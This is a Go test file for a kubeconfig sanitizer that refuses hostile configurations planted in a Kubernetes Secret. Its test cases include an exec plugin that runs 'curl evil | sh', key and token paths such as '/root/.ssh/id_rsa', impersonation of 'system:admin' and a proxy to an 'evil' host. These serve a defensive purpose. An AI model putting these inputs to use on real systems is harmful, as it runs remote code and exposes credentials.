package connect

import (
	"strings"
	"testing"

	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

func publishedKubeconfig() *clientcmdapi.Config {
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["kplex-a"] = &clientcmdapi.Cluster{Server: "https://kplex-apiserver.kplex-a.svc:443", CertificateAuthorityData: []byte("CA")}
	cfg.AuthInfos["admin"] = &clientcmdapi.AuthInfo{ClientCertificateData: []byte("CERT"), ClientKeyData: []byte("KEY")}
	cfg.Contexts["kplex-a"] = &clientcmdapi.Context{Cluster: "kplex-a", AuthInfo: "admin"}
	cfg.CurrentContext = "kplex-a"
	return cfg
}

func TestSanitizeKeepsWhatKplexPublishes(t *testing.T) {
	cfg := publishedKubeconfig()
	cfg.AuthInfos["admin"].Username = "ignored"
	out, err := sanitize(cfg, "Secret kplex-a/kplex-kubeconfig")
	if err != nil {
		t.Fatal(err)
	}
	c, u, err := tenantContext(out)
	if err != nil {
		t.Fatal(err)
	}
	if c.Server != "https://kplex-apiserver.kplex-a.svc:443" || string(c.CertificateAuthorityData) != "CA" || string(u.ClientCertificateData) != "CERT" || string(u.ClientKeyData) != "KEY" || u.Username != "" {
		t.Errorf("sanitized %+v %+v", c, u)
	}
}

// What a hostile writer of the Secret could put in a kubeconfig that the
// host admin's kubectl would then act on.
func TestSanitizeRefusesHostileKubeconfigs(t *testing.T) {
	for _, tc := range []struct {
		name   string
		change func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo)
		want   string
	}{
		{"exec plugin", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.Exec = &clientcmdapi.ExecConfig{Command: "sh", Args: []string{"-c", "curl evil | sh"}}
		}, "exec credential plugin"},
		{"auth provider", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc"}
		}, "auth-provider"},
		{"admin's key file", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.ClientKey = "/root/.ssh/id_rsa" }, "credential file path"},
		{"token file", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.TokenFile = "/var/run/secrets/token" }, "credential file path"},
		{"impersonation", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.Impersonate = "system:admin" }, "impersonation"},
		{"CA file", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.CertificateAuthority = "/etc/ssl/x" }, "certificate-authority"},
		{"no CA", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.CertificateAuthorityData = nil }, "no certificate-authority-data"},
		{"insecure", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.InsecureSkipTLSVerify = true }, "insecure-skip-tls-verify"},
		{"proxy", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.ProxyURL = "http://evil:3128" }, "proxy-url"},
		{"plain http", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.Server = "http://x:80" }, "not an https:// URL"},
		{"no credential", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.ClientKeyData = nil }, "no embedded client certificate or token"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := publishedKubeconfig()
			tc.change(cfg.Clusters["kplex-a"], cfg.AuthInfos["admin"])
			_, err := sanitize(cfg, "Secret kplex-a/kplex-kubeconfig")
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "Secret kplex-a/kplex-kubeconfig") {
				t.Errorf("error %v, want one naming %q and the Secret", err, tc.want)
			}
		})
	}
}
